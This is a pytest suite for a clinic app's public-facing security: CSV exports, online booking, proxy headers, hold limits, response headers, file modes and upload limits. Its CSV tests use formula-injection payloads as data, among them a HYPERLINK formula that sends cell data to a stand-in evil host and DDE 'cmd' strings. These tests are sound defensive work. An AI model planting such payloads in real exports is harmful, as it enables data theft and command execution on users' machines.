"""What the public sees and can do: the waiting-room board, /book, exports, headers, file modes and uploads."""
from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import sys
from datetime import date, datetime, timedelta, timezone
from pathlib import Path

import pydantic
import pytest
from nicegui.testing import User
from nicegui.testing.user_interaction import UserInteraction
from sqlalchemy.exc import IntegrityError
from sqlmodel import select
from starlette.requests import Request

from clinic_ui.ratelimit import client_address
from models import (
    Appointment,
    AuditLog,
    ChangeStatus,
    OutboxMessage,
    Patient,
    PatientContactChange,
    Payment,
    PaymentMethod,
    ResultFile,
    SlotHold,
)
from services import billing, booking, checkin, online_booking, orders, patients, private_files, queue, reports, users
from services.billing import Tender
from services.core.clock import local_today
from services.core.db import get_db
from services.core.errors import Conflict, PermissionDenied
from services.core.settings import Settings, get_settings
from services.csv_export import csv_bytes, safe_cell
from tests.clinical import make_ward
from tests.conftest import ROOT, TEST_DATABASE_URL
from tests.factories import NOW, PASSWORD, TZ, local, make_clinic
from tests.services.test_billing import bill, make_visit, pay

RETRIES = 50

DAY = 23


# ---------------------------------------------------------------- the board masks every name

async def test_the_board_masks_a_one_word_name_too(db):
    clinic = await make_clinic(db, patients=1)
    async with db.write() as session:
        patient = await session.get(Patient, clinic.patient_ids[0])
        patient.full_name = 'Hùng'
        session.add(patient)
        await session.commit()
    async with db.write() as session:
        await checkin.walk_in(session, clinic.reception, patient_id=clinic.patient_ids[0],
                              doctor_id=clinic.doctor_ids[0], tz=TZ, now=local(DAY, 8, 0))
    async with db.write() as session:
        queue_id = (await queue.queue_for_doctor(session, clinic.doctor_ids[0])).id
    async with db.read() as session:
        views = await queue.board_views(session, [queue_id], tz=TZ, now=local(DAY, 8, 1))
    shown = json.dumps([t.masked_name for t in views[0].waiting], ensure_ascii=False)
    assert 'Hùng' not in shown and json.loads(shown) == ['H.']
    assert queue.masked_name('  hùng ') == 'H.' and queue.masked_name('Nguyễn Văn An') == 'Nguyễn V. A.'


# ---------------------------------------------------------------- CSV exports cannot carry formulas

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
FORMULA_REASON = "+cmd|' /C calc'!A0"


def parsed(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode('utf-8-sig'))))


async def test_a_formula_typed_on_the_booking_page_is_plain_text_in_the_appointments_export(db):
    clinic = await make_clinic(db)
    async with db.write() as session:
        held = await booking.hold_slot(session, doctor_id=clinic.doctor_ids[0], service_id=clinic.consultation_id,
                                       start_at=local(DAY, 10, 0), tz=TZ, now=NOW, client_key='visitor')
    request = online_booking.OnlineRequest(full_name=FORMULA_NAME, phone='0977000111', email='x@example.test',
                                           date_of_birth=date(1990, 1, 1), reason=FORMULA_REASON)
    async with db.write() as session:
        await online_booking.book(session, hold_token=held.token, request=request, tz=TZ, now=NOW)
    async with db.read() as session:
        data = await reports.appointments_csv(session, clinic.cashier, NOW.date(), NOW.date(), tz=TZ,
                                              currency='VND', exponent=0)
    row = parsed(data)[0]
    assert row['patient_name'] == "'" + FORMULA_NAME and row['reason'] == "'" + FORMULA_REASON
    assert row['services_price'] == '150000'  # amounts stay numbers


async def test_transaction_export_quotes_text_cells_and_keeps_a_refund_a_negative_number(db):
    clinic = await make_clinic(db)
    async with db.write() as session:
        patient = await session.get(Patient, clinic.patient_ids[0])
        patient.full_name = '@SUM(1+1)*cmd|"/C calc"!A0'
        session.add(patient)
        await session.commit()
    invoice_id = await bill(db, clinic.cashier, await make_visit(db, clinic))
    await pay(db, clinic.cashier, invoice_id, Tender(PaymentMethod.CARD, 150_000, reference='-1+1'))
    async with db.write() as session:
        payment_id = (await session.exec(select(Payment.id))).one()
        await billing.refund(session, clinic.cashier, payment_id, 30_000, '=1+1 goodwill', now=NOW)
    async with db.read() as session:
        data = await reports.transactions_csv(session, clinic.cashier,
                                              reports.TransactionFilter(NOW.date(), NOW.date()), tz=TZ,
                                              currency='VND', exponent=0)
    rows = parsed(data)
    assert {r['patient_name'] for r in rows} == {'\'@SUM(1+1)*cmd|"/C calc"!A0'}
    assert sorted(r['amount'] for r in rows) == ['-30000', '150000']
    assert {r['reason'] for r in rows} == {'', "'=1+1 goodwill"}
    assert "'-1+1" in {r['reference'] for r in rows}


def test_every_formula_start_is_neutralised_and_numbers_stay_numbers():
    for start in ('=', '+', '-', '@', '\t', '\r'):
        assert safe_cell(f'{start}1+1') == f"'{start}1+1"
    assert safe_cell('Lê Thị Hồng') == 'Lê Thị Hồng' and safe_cell(None) == '' and safe_cell(-30000) == -30000
    assert safe_cell(reports.major_units(-1250, 2)) == reports.major_units(-1250, 2)
    assert csv_bytes(['a', 'b'], [['=1', -5]]).decode('utf-8-sig') == "a,b\r\n'=1,-5\r\n"


# ---------------------------------------------------------------- /book never changes an existing record

BORN = date(1970, 1, 1)


async def known_patient(db, *, email: str | None = 'patient0@example.test') -> tuple:
    """The clinic, with its first patient (Lê Thị Hồng, 0901234500) born on BORN and the given email on record."""
    clinic = await make_clinic(db)
    async with db.write() as session:
        patient = await session.get(Patient, clinic.patient_ids[0])
        patient.date_of_birth, patient.email = BORN, email
        session.add(patient)
        await session.commit()
    return clinic, clinic.patient_ids[0]


async def book_online(db, clinic, *, name='Lê Thị Hồng', email='attacker@evil.test', start=None, client='visitor'):
    async with db.write() as session:
        held = await booking.hold_slot(session, doctor_id=clinic.doctor_ids[0], service_id=clinic.consultation_id,
                                       start_at=start or local(DAY, 10, 0), tz=TZ, now=NOW, client_key=client)
    request = online_booking.OnlineRequest(full_name=name, phone='0901 234 500', email=email, date_of_birth=BORN)
    async with db.write() as session:
        return await online_booking.book(session, hold_token=held.token, request=request, tz=TZ, now=NOW)


async def rows(db, model, *where):
    async with db.read() as session:
        return (await session.exec(select(model).where(*where).order_by(model.id))).all()


async def test_a_booking_with_a_known_patients_details_and_another_email_leaves_the_record_alone(db):
    clinic, patient_id = await known_patient(db)
    confirmation = await book_online(db, clinic, name='LÊ THỊ HỒNG')
    assert confirmation.details_to_check and confirmation.email == ''  # neither address is shown to the visitor
    async with db.read() as session:
        patient = await session.get(Patient, patient_id)
    assert (patient.email, patient.full_name) == ('patient0@example.test', 'Lê Thị Hồng')
    assert [a.patient_id for a in await rows(db, Appointment)] == [patient_id]  # booked for the recognised patient
    assert [e.to_address for e in await rows(db, OutboxMessage)] == ['patient0@example.test']  # the address on record
    changes = await rows(db, PatientContactChange)
    assert {(c.field, c.old_value, c.new_value, c.status, c.source) for c in changes} == {
        ('email', 'patient0@example.test', 'attacker@evil.test', ChangeStatus.PENDING, 'online booking'),
        ('full_name', 'Lê Thị Hồng', 'LÊ THỊ HỒNG', ChangeStatus.PENDING, 'online booking')}
    assert len(await rows(db, AuditLog, AuditLog.action == 'patient_change_proposed')) == 2
    await book_online(db, clinic, name='LÊ THỊ HỒNG', start=local(DAY, 11, 0))  # asked again: not listed twice
    assert len(await rows(db, PatientContactChange)) == 2


async def test_the_same_details_as_on_record_book_without_anything_to_check(db):
    clinic, _ = await known_patient(db)
    confirmation = await book_online(db, clinic, email='patient0@example.test')
    assert not confirmation.details_to_check and confirmation.email == 'patient0@example.test'
    assert await rows(db, PatientContactChange) == []


async def test_reception_accepts_or_rejects_each_change_once_and_both_are_audited(db):
    clinic, patient_id = await known_patient(db)
    await book_online(db, clinic, name='LÊ THỊ HỒNG')
    email_change, name_change = sorted(await rows(db, PatientContactChange), key=lambda c: c.field)
    async with db.read() as session:
        shown = await patients.pending_changes(session, clinic.reception, patient_id)
        assert await patients.patients_with_pending_changes(session, clinic.reception) == (
            2, [patients.PatientWithChanges(patient_id, 'P0000001', 'Lê Thị Hồng', 2)])
    assert [(c.label, c.new_value) for c in shown] == [('Name', 'LÊ THỊ HỒNG'), ('Email', 'attacker@evil.test')]
    async with db.write() as session:
        with pytest.raises(PermissionDenied):
            await patients.decide_change(session, clinic.cashier, email_change.id, accept=True, now=NOW)
    async with db.write() as session:
        await patients.decide_change(session, clinic.reception, email_change.id, accept=False, now=NOW)
    async with db.write() as session:
        record = await patients.decide_change(session, clinic.reception, name_change.id, accept=True, now=NOW)
    assert (record.full_name, record.email) == ('LÊ THỊ HỒNG', 'patient0@example.test')
    async with db.write() as session:
        with pytest.raises(Conflict, match='already rejected'):
            await patients.decide_change(session, clinic.reception, email_change.id, accept=True, now=NOW)
    async with db.read() as session:
        patient = await session.get(Patient, patient_id)
        assert (patient.email, patient.search_name) == ('patient0@example.test', 'le thi hong')
        assert await patients.patients_with_pending_changes(session, clinic.reception) == (0, [])
    decided = await rows(db, PatientContactChange)
    assert {c.status for c in decided} == {ChangeStatus.ACCEPTED, ChangeStatus.REJECTED}
    assert {c.decided_by_id for c in decided} == {clinic.reception.user_id}
    audit = await rows(db, AuditLog, AuditLog.action.in_(['patient_change_accepted', 'patient_change_rejected']))
    assert [(a.action, a.user_id) for a in audit] == [('patient_change_rejected', clinic.reception.user_id),
                                                       ('patient_change_accepted', clinic.reception.user_id)]
    assert 'attacker@evil.test' in audit[0].detail


async def test_without_an_email_on_record_the_confirmation_waits_until_reception_accepts_the_address(db):
    clinic, _ = await known_patient(db, email=None)
    confirmation = await book_online(db, clinic, email='hong.new@example.test')
    assert confirmation.details_to_check and await rows(db, OutboxMessage) == []
    change = (await rows(db, PatientContactChange))[0]
    async with db.write() as session:
        await patients.decide_change(session, clinic.reception, change.id, accept=True, now=NOW)
    sent = await rows(db, OutboxMessage)
    assert [e.to_address for e in sent] == ['hong.new@example.test'] and 'confirmed' in sent[0].subject


async def test_the_database_refuses_an_undecided_decision_and_an_unknown_field(db):
    _, patient_id = await known_patient(db)
    for values in ({'field': 'phone'}, {'status': ChangeStatus.ACCEPTED}, {'new_value': 'patient0@example.test'}):
        async with db.write() as session:
            session.add(PatientContactChange(**{'patient_id': patient_id, 'field': 'email', 'new_value': 'a@b.test',
                                                'old_value': 'patient0@example.test', 'source': 'online booking',
                                                **values}))
            with pytest.raises(IntegrityError):
                await session.flush()
            await session.rollback()


async def sign_in(user: User, username: str = 'reception') -> None:
    await user.open('/login')
    user.find(marker='username').type(username)
    user.find(marker='password').type(PASSWORD)
    user.find(marker='sign-in').click()
    await user.should_see(marker='station-title', retries=RETRIES)


async def test_reception_sees_the_count_and_accepts_a_change_on_the_patients_page(user: User, monkeypatch):
    monkeypatch.setattr(users, 'FAILED_LOGIN_DELAY_S', 0)
    await user.open('/login')  # starts the app
    clinic, patient_id = await known_patient(get_db())
    now = datetime.now(timezone.utc)
    async with get_db().write() as session:
        held = await booking.hold_slot(session, doctor_id=clinic.doctor_ids[0], service_id=clinic.consultation_id,
                                       start_at=await first_free(clinic, now), tz=TZ, now=now, client_key='v')
    async with get_db().write() as session:
        request = online_booking.OnlineRequest(full_name='Lê Thị Hồng', phone='0901234500',
                                               email='hong.new@example.test', date_of_birth=BORN)
        await online_booking.book(session, hold_token=held.token, request=request, tz=TZ, now=now)
    await sign_in(user)
    await user.should_see('Details typed online to check: 1', retries=RETRIES)
    user.find('Lê Thị Hồng · P0000001').click()
    await user.should_see(marker='pending-change', content='patient0@example.test → hong.new@example.test',
                          retries=RETRIES)
    user.find(marker='accept-change').click()
    await user.should_see('Accepted: the record is updated.', retries=RETRIES)
    await user.should_not_see(marker='pending-change', retries=RETRIES)
    async with get_db().read() as session:
        assert (await session.get(Patient, patient_id)).email == 'hong.new@example.test'
    assert next(iter(user.find(marker='email').elements)).value == 'hong.new@example.test'


async def first_free(clinic, now):
    """The first free slot of the first doctor from tomorrow on (whatever the time the test runs)."""
    tz = get_settings().tz
    async with get_db().read() as session:
        slots = await booking.free_slots(session, service_id=clinic.consultation_id,
                                         doctor_ids=clinic.doctor_ids[:1],
                                         start_day=local_today(tz) + timedelta(days=1), days=2, tz=tz, now=now)
    return next(s for day in slots.values() for s in day).start_at


async def test_the_booking_page_does_not_say_where_a_recognised_patients_email_goes(user: User):
    await user.open('/login')  # starts the app
    clinic, patient_id = await known_patient(get_db())
    await user.open('/book')
    next(iter(user.find(marker='online-service').elements)).set_value(clinic.consultation_id)
    await user.should_see(marker='slot', retries=RETRIES)
    UserInteraction(user, {min(user.find(marker='slot').elements, key=lambda b: b.id)}, None).click()
    await user.should_see('is kept for you for 5 minutes', retries=RETRIES)
    user.find(marker='online-name').type('Lê Thị Hồng')
    user.find(marker='online-phone').type('0901234500')
    user.find(marker='online-dob').type('01/01/1970')
    user.find(marker='online-email').type('attacker@evil.test')
    user.find(marker='online-confirm').click()
    await user.should_see('Your appointment is booked', retries=RETRIES)
    await user.should_see('reception will check them', retries=RETRIES)
    await user.should_not_see('patient0@example.test')
    await user.should_not_see('on its way to attacker@evil.test')
    async with get_db().read() as session:
        assert (await session.get(Patient, patient_id)).email == 'patient0@example.test'


# ---------------------------------------------------------------- forwarded headers and slot hoarding

def http_request(peer: str, forwarded: str | None = None) -> Request:
    headers = [(b'x-forwarded-for', forwarded.encode())] if forwarded is not None else []
    return Request({'type': 'http', 'method': 'GET', 'path': '/book', 'headers': headers, 'client': (peer, 40000)})


def test_x_forwarded_for_counts_only_from_the_clinics_own_proxies(monkeypatch):
    monkeypatch.setattr(get_settings(), 'trusted_proxies', '')  # the default: no proxy is trusted
    assert client_address(http_request('127.0.0.1', '198.51.100.1')) == '127.0.0.1'
    assert client_address(http_request('203.0.113.9', '198.51.100.1')) == '203.0.113.9'
    monkeypatch.setattr(get_settings(), 'trusted_proxies', '10.0.0.5, 10.1.0.0/16')
    assert client_address(http_request('203.0.113.9', '198.51.100.1')) == '203.0.113.9'  # not a proxy of ours
    assert client_address(http_request('10.0.0.5', '198.51.100.1')) == '198.51.100.1'
    # what the visitor wrote themselves stands left of what our proxies saw: the rightmost outsider counts
    assert client_address(http_request('10.0.0.5', '1.2.3.4, 198.51.100.1, 10.1.2.3')) == '198.51.100.1'
    assert client_address(http_request('10.0.0.5', '[2001:db8::7]:443')) == '2001:db8::7'
    assert client_address(http_request('10.0.0.5', 'garbage')) == '10.0.0.5'
    assert client_address(http_request('10.0.0.5')) == '10.0.0.5'


def test_a_wrong_trusted_proxy_setting_stops_the_start_with_its_name():
    with pytest.raises(pydantic.ValidationError, match='trusted_proxies'):
        Settings(trusted_proxies='10.0.0.5, my-proxy')


async def test_holds_from_many_addresses_stop_at_a_share_of_the_days_slots(db):
    clinic = await make_clinic(db)  # both doctors give the consultation: 2 x 30 slots a day
    day = local(24, 0).date()
    async with db.read() as session:
        slots = (await booking.free_slots(session, service_id=clinic.consultation_id, doctor_ids=clinic.doctor_ids,
                                          start_day=day, days=1, tz=TZ, now=NOW))[day]
    assert len(slots) == 60
    held, refused = 0, None
    for number, slot in enumerate(slots):  # a new address for every hold
        try:
            async with db.write() as session:
                await booking.hold_slot(session, doctor_id=slot.doctor_id, service_id=clinic.consultation_id,
                                        start_at=slot.start_at, tz=TZ, now=NOW, client_key=f'address-{number}')
            held += 1
        except Conflict as error:
            refused = str(error)
            break
    assert held == 15 and 'General consultation times on 24/11/2026 are being held online' in refused
    async with db.write() as session:  # another day is not affected
        await booking.hold_slot(session, doctor_id=clinic.doctor_ids[0], service_id=clinic.consultation_id,
                                start_at=local(25, 9, 0), tz=TZ, now=NOW, client_key='someone-else')
    async with db.write() as session:  # and once the holds expire, the day is open again
        await booking.hold_slot(session, doctor_id=slots[-1].doctor_id, service_id=clinic.consultation_id,
                                start_at=slots[-1].start_at, tz=TZ, now=NOW + booking.HOLD_TIME, client_key='late')


async def test_a_day_with_one_free_slot_can_still_be_held(db):
    clinic = await make_clinic(db)
    settings = get_settings().model_copy(update={'public_hold_share': 0.01})
    async with db.write() as session:
        await booking.hold_slot(session, doctor_id=clinic.doctor_ids[0], service_id=clinic.consultation_id,
                                start_at=local(24, 9, 0), tz=TZ, now=NOW, client_key='a', settings=settings)
    async with db.write() as session:
        with pytest.raises(Conflict, match='being held online'):
            await booking.hold_slot(session, doctor_id=clinic.doctor_ids[0], service_id=clinic.consultation_id,
                                    start_at=local(24, 10, 0), tz=TZ, now=NOW, client_key='b', settings=settings)


async def hold_from_the_booking_page(user: User, clinic, forwarded_for: str) -> None:
    user.http_client.headers['X-Forwarded-For'] = forwarded_for
    await user.open('/book')
    next(iter(user.find(marker='online-service').elements)).set_value(clinic.consultation_id)
    await user.should_see(marker='slot', retries=RETRIES)
    UserInteraction(user, {min(user.find(marker='slot').elements, key=lambda b: b.id)}, None).click()


async def test_behind_a_trusted_proxy_each_visitor_has_their_own_hold_limit(user: User, monkeypatch):
    await user.open('/login')  # starts the app
    clinic = await make_clinic(get_db())
    monkeypatch.setattr(get_settings(), 'trusted_proxies', '127.0.0.1')  # the test client connects from here
    for visitor in ('198.51.100.1', '198.51.100.2'):
        await hold_from_the_booking_page(user, clinic, visitor)
        await user.should_see('is kept for you for 5 minutes', retries=RETRIES)
    async with get_db().read() as session:
        keys = (await session.exec(select(SlotHold.client_key))).all()
    assert len(set(keys)) == 2


async def test_without_a_trusted_proxy_x_forwarded_for_does_not_make_new_visitors(user: User, monkeypatch):
    await user.open('/login')  # starts the app
    clinic = await make_clinic(get_db())
    monkeypatch.setattr(get_settings(), 'trusted_proxies', '')
    for number in range(get_settings().public_holds_per_address):
        await hold_from_the_booking_page(user, clinic, f'198.51.100.{number + 1}')
        await user.should_see('is kept for you for 5 minutes', retries=RETRIES)
    await hold_from_the_booking_page(user, clinic, '198.51.100.99')
    await user.should_see('Too many slots are being held from this connection', retries=RETRIES)


# ---------------------------------------------------------------- security headers on every response

SECURITY_HEADERS = ('content-security-policy', 'x-frame-options', 'referrer-policy', 'x-content-type-options')


async def test_every_response_carries_the_security_headers(user: User, monkeypatch):
    monkeypatch.setattr(users, 'FAILED_LOGIN_DELAY_S', 0)
    await user.open('/login')  # starts the app
    await make_clinic(get_db())
    responses = [await user.http_client.get(path) for path in
                 ('/login', '/book', '/board?key=wrong', '/reception/tickets/1.pdf', '/no-such-page')]
    responses.append(await user.http_client.post('/_nicegui/client/nobody/upload/1', content=b'x'))
    await sign_in(user, 'cashier')
    today = local_today(get_settings().tz).isoformat()
    download = await user.http_client.get(f'/cashier/transactions.csv?date_from={today}&date_to={today}')
    assert download.status_code == 200 and download.headers['content-type'].startswith('text/csv')
    responses.append(download)
    for response in responses:
        assert all(name in response.headers for name in SECURITY_HEADERS), (response.url, response.headers)
        policy = response.headers['content-security-policy']
        assert "frame-ancestors 'none'" in policy and "default-src 'self'" in policy and "object-src 'none'" in policy
        assert (response.headers['x-frame-options'], response.headers['x-content-type-options'],
                response.headers['referrer-policy']) == ('DENY', 'nosniff', 'same-origin')


# ---------------------------------------------------------------- the clinic's files are the owner's only

@pytest.fixture
def umask_restored():
    before = os.umask(0o022)
    os.umask(0o022)
    yield
    os.umask(before)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.lstat().st_mode)


def test_the_data_folder_is_made_owner_only_and_new_files_are_created_so(tmp_path, umask_restored):
    data, outside = tmp_path / 'data', tmp_path / 'outside.txt'
    for folder in ('backups', 'files', 'sessions'):
        (data / folder).mkdir(parents=True)
    clinic_files = [data / 'storage_secret', data / 'clinic.db', data / 'clinic.db-wal',
                    data / 'clinic.db.before-restore-20261123-091500', data / 'backups' / 'clinic-20261123-091500.db',
                    data / 'files' / 'ab12.png', data / 'sessions' / 'storage-user-1.json']
    others = [data / 'notes.txt', outside]
    for path in clinic_files + others:
        path.write_text('x')
        path.chmod(0o644)
    for folder in (data, data / 'backups', data / 'files', data / 'sessions'):
        folder.chmod(0o755)
    (data / 'files' / 'link').symlink_to(outside)
    settings = Settings(data_dir=data, database_url=f'sqlite+aiosqlite:///{data / "clinic.db"}')
    private_files.make_private(settings)
    assert {path.name: mode(path) for path in clinic_files} == {path.name: 0o600 for path in clinic_files}
    assert {mode(folder) for folder in (data, data / 'backups', data / 'files', data / 'sessions')} == {0o700}
    assert [mode(path) for path in others] == [0o644, 0o644]  # not the clinic's: untouched, also through a link
    (data / 'files' / 'new.pdf').write_bytes(b'%PDF-')
    assert mode(data / 'files' / 'new.pdf') == 0o600


@pytest.mark.skipif(not TEST_DATABASE_URL.startswith('sqlite'), reason='SQLite backups only')
async def test_a_backup_from_the_command_line_is_the_owners_only(db, tmp_path):
    await make_clinic(db, patients=1)
    env = {**os.environ, 'CLINIC_DATA_DIR': str(tmp_path)}
    made = subprocess.run([sys.executable, '-m', 'services.backup'], cwd=ROOT, env=env, capture_output=True,
                          text=True, timeout=60, preexec_fn=lambda: os.umask(0o022))
    assert made.returncode == 0, made.stderr
    backup_file = Path(made.stdout.strip())
    assert mode(backup_file) == 0o600 and mode(backup_file.parent) == 0o700



# ---------------------------------------------------------------- an oversized upload is refused before it is read

PNG = b'\x89PNG\r\n\x1a\n' + b'\x00' * 64
BOUNDARY = 'clinicflowtestboundary'
MEGABYTE = 1_048_576


class Body:
    """A multipart form with one file of ``megabytes``, handed out a megabyte at a time; counts what was taken."""

    def __init__(self, megabytes: int) -> None:
        self.head = (f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="scan.png"\r\n'
                     'Content-Type: image/png\r\n\r\n').encode() + PNG
        self.tail = f'\r\n--{BOUNDARY}--\r\n'.encode()
        self.megabytes = megabytes
        self.taken = 0

    @property
    def length(self) -> int:
        return len(self.head) + self.megabytes * MEGABYTE + len(self.tail)

    async def __aiter__(self):
        for chunk in (self.head, *(b'\x00' * MEGABYTE for _ in range(self.megabytes)), self.tail):
            self.taken += len(chunk)
            yield chunk


async def open_upload(user: User) -> str:
    """A technician's result dialog with its upload element: the URL NiceGUI receives its file on."""
    await user.open('/login')  # starts the app
    ward = await make_ward(get_db())
    async with get_db().write() as session:
        created = await orders.place(session, ward.doctor, ward.visit_id, [ward.clinic.lab_id],
                                     now=datetime.now(timezone.utc))
    await sign_in(user, 'lab')
    await user.should_see('1 pending', retries=RETRIES)
    user.find(marker='worklist').trigger('open', created[0].id)
    await user.should_see(marker='upload', retries=RETRIES)
    return next(iter(user.find(marker='upload').elements))._props['url']


async def test_an_upload_within_the_limit_is_attached(user: User, monkeypatch):
    monkeypatch.setattr(users, 'FAILED_LOGIN_DELAY_S', 0)
    url = await open_upload(user)
    body = Body(0)
    response = await user.http_client.post(url, content=body.__aiter__(), headers={
        'Content-Type': f'multipart/form-data; boundary={BOUNDARY}', 'Content-Length': str(body.length)})
    assert response.status_code == 200
    await user.should_see('File attached.', retries=RETRIES)
    assert len(await rows(get_db(), ResultFile)) == 1


@pytest.mark.parametrize('declared', [True, False], ids=['with-length', 'chunked'])
async def test_a_60_mb_upload_is_refused_before_it_is_read(user: User, monkeypatch, declared):
    monkeypatch.setattr(users, 'FAILED_LOGIN_DELAY_S', 0)
    url = await open_upload(user)
    body = Body(60)
    headers = {'Content-Type': f'multipart/form-data; boundary={BOUNDARY}'}
    if declared:
        headers['Content-Length'] = str(body.length)
    response = await user.http_client.post(url, content=body.__aiter__(), headers=headers)
    limit = get_settings().upload_max_mb * MEGABYTE
    assert response.status_code == 413 and f'larger than {get_settings().upload_max_mb} MB' in response.text
    assert body.taken <= (MEGABYTE if declared else limit + 2 * MEGABYTE)  # the rest was never read
    assert await rows(get_db(), ResultFile) == []
